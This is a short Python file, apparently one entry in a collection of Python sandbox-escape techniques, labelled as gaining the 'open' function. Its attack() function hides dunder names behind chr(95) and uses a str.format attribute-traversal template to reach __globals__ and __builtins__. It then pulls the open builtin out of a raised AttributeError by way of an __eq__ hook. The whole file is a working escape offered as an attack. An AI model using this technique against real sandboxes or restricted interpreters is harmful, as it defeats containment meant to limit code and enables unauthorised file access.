# gained: function open
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


KEPT: list[Any] = []


class Equal:
    def __eq__(self, other: Any) -> bool:
        KEPT.append(other)
        return True

    def __hash__(self) -> int:
        return 1


def read(template: str, value: Any) -> Any:
    try:
        template.format(value)
    except AttributeError as error:
        if error == Equal():
            return KEPT[0].obj
    return None


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
